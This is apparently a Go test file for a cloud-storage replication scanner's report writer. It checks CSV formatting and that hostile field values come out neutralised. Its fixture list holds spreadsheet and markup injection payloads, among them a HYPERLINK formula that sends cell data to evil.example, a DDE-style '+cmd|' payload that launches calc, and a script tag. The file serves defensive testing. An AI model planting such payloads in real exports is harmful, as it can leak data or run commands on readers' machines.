package report

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"
)

// checkGolden compares got with testdata/golden/name, rewriting the file first
// under -update. The golden files of the csv, sarif, junit and markdown formats are
// named after the report files (crrscan.junit.xml → result.junit.xml).
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatalf("update golden: %v", err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run go test ./report -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run go test ./report -update after checking the change)\n--- got ---\n%s\n--- want ---\n%s", path, got, want)
	}
}

// goldenFile is the golden file of a format's report: the report's file name with
// "crrscan" replaced by "result".
func goldenFile(format string) string {
	return "result" + strings.TrimPrefix(FileName(format), "crrscan")
}

// hostileFinding is a finding whose every text field carries what an attacker can
// put in a tag value, a bucket policy or an error message.
func hostileFinding(check, status, text string) Finding {
	return Finding{
		CheckID: check, Title: text, Severity: "high", Status: status,
		AccountID: "111111111111", Region: "us-east-1", Bucket: text, ResourceARN: text,
		RuleID: text, Destination: text, Message: text,
		Evidence: map[string]any{"waiver": map[string]any{"reason": text, "owner": text}},
		Remediation: Remediation{
			Summary:   text,
			Commands:  []string{text, "aws s3api get-bucket-replication --bucket " + text},
			Documents: map[string]any{"doc.json": map[string]any{"v": text}},
			Terraform: text,
		},
		Fingerprint: Fingerprint(check, "111111111111", text, "", "", ""),
	}
}

// hostileTexts are values that must come out inert in every report.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1", "-2", "@SUM(A1:A2)", "\t=1", "\r=1", "\n=1", " =1", "  +cmd|' /C calc'!A0",
	"\x00=1", "\x1b[31m=1", "\u202e=1",
	"<script>alert(1)</script>", "a|b`c``d```e````f", "]]><x/>&amp;", "\uFFFE\uFFFF\x01\x08end",
	"[link](http://evil.example) ![img](http://evil.example/x.png) @octocat *b* _i_ ~s~ $x$",
	"line1\nline2\r\n# heading\n- item\n> quote\n1. one",
}

// hostileResult holds one finding per hostile text, in each status.
func hostileResult() *Result {
	var fs []Finding
	statuses := []string{StatusFail, StatusError, StatusWaived}
	for i, text := range hostileTexts {
		check := []string{"CRR-001", "CRR-090", "CRR-034"}[i%3]
		fs = append(fs, hostileFinding(check, statuses[i%3], text))
	}
	scan := fixtureScan()
	scan.Source = "snapshot:<b>evil</b>|`x`"
	scan.SkippedAccounts, scan.EnabledRegions = hostileCoverage()
	return NewResult(Tool{Name: "crrscan", Version: "1.0.0 <i>x</i>"}, scan, fixtureChecks(), fs, fixtureOutcomes())
}

func readCSV(t *testing.T, out []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, out)
	}
	return rows
}

func TestCSVColumnsAndRows(t *testing.T) {
	r := fixtureResult()
	out := render(t, "csv", r)
	if !bytes.HasSuffix(out, []byte("\r\n")) || bytes.Count(out, []byte("\n")) != bytes.Count(out, []byte("\r\n")) {
		t.Error("CSV lines should end in CRLF (RFC 4180)")
	}
	rows := readCSV(t, out)
	if !slices.Equal(rows[0], csvHeader) {
		t.Fatalf("header = %v, want %v", rows[0], csvHeader)
	}
	if len(rows) != len(r.Findings)+1 {
		t.Fatalf("%d rows, want a header and %d findings", len(rows), len(r.Findings))
	}
	for i, f := range r.Findings {
		row := rows[i+1]
		if len(row) != len(csvHeader) {
			t.Fatalf("row %d has %d cells", i, len(row))
		}
		want := map[string]string{
			"check_id": f.CheckID, "severity": f.Severity, "status": f.Status, "account_id": f.AccountID,
			"region": f.Region, "bucket": f.Bucket, "resource_arn": f.ResourceARN, "rule_id": f.RuleID,
			"destination": f.Destination, "remediation_summary": f.Remediation.Summary,
			"remediation_commands": strings.Join(f.Remediation.Commands, "\n"), "fingerprint": f.Fingerprint,
		}
		for col, v := range want {
			if got := row[slices.Index(csvHeader, col)]; got != v {
				t.Errorf("row %d %s = %q, want %q", i, col, got, v)
			}
		}
	}
}

func TestCSVMultipleCommandsJoined(t *testing.T) {
	f := fixtureFindings()[2]
	f.Remediation.Commands = []string{"aws s3api one", "aws s3api two"}
	rows := readCSV(t, render(t, "csv", NewResult(Tool{}, ScanInfo{}, nil, []Finding{f}, nil)))
	if got := rows[1][slices.Index(csvHeader, "remediation_commands")]; got != "aws s3api one\naws s3api two" {
		t.Errorf("remediation_commands = %q", got)
	}
}

func TestCSVNoFindings(t *testing.T) {
	out := render(t, "csv", NewResult(Tool{}, ScanInfo{Complete: true}, nil, nil, nil))
	if want := strings.Join(csvHeader, ",") + "\r\n"; string(out) != want {
		t.Errorf("CSV without findings = %q, want the header row only", out)
	}
}

// TestCSVHostile: no cell a spreadsheet reads as a formula, no control character
// other than the line breaks of multi-line cells, and the file still parses into
// one row per finding with the fixed columns.
func TestCSVHostile(t *testing.T) {
	r := hostileResult()
	out := render(t, "csv", r)
	rows := readCSV(t, out)
	if len(rows) != len(r.Findings)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(r.Findings)+1)
	}
	for i, row := range rows[1:] {
		if len(row) != len(csvHeader) {
			t.Fatalf("row %d has %d cells", i, len(row))
		}
		for j, cell := range row {
			if isFormula(cell) {
				t.Errorf("row %d %s starts a formula: %q", i, csvHeader[j], cell)
			}
			for _, c := range cell {
				if (c < 0x20 && c != '\n') || c == 0x7f || (c >= 0x80 && c <= 0x9f) || isBidiControl(c) {
					t.Errorf("row %d %s holds control %U: %q", i, csvHeader[j], c, cell)
				}
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, `'+1`, `'-2`, `'@SUM(A1:A2)`, `'=1`, `' =1`, `'  +cmd|`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("CSV lacks the neutralised cell %q", want)
		}
	}
}

// isFormula reports whether a spreadsheet would evaluate the cell.
func isFormula(cell string) bool {
	if cell == "" || cell[0] == '\'' {
		return false
	}
	t := strings.TrimLeftFunc(cell, unicode.IsSpace)
	return strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) || (t != "" && strings.ContainsRune("=+-@", rune(t[0])))
}

func TestNeutralizeFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"logs-prod", "logs-prod"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\nx", "'\nx"},
		{"  =1", "'  =1"},
		{"\u00a0@x", "'\u00a0@x"},
		{"   ", "   "},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		{"111111111111", "111111111111"},
	}
	for _, tt := range tests {
		if got := neutralizeFormula(tt.in); got != tt.want {
			t.Errorf("neutralizeFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	// Sanitising first: a control character cannot hide a formula.
	for in, want := range map[string]string{"\x00=1": "'=1", "\x1b[0m+1": "'+1", "\u202e-1": "'-1", "\r=1": "'\n=1"} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMultilineText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a\r\nb\rc\nd", "a\nb\nc\nd"},
		{"x\x1b[31my\nz\u202e!", "xy\nz!"},
		{"tab\there", "tab here"},
		{"a\u2028b", "a\nb"},
	}
	for _, tt := range tests {
		if got := multilineText(tt.in); got != tt.want {
			t.Errorf("multilineText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
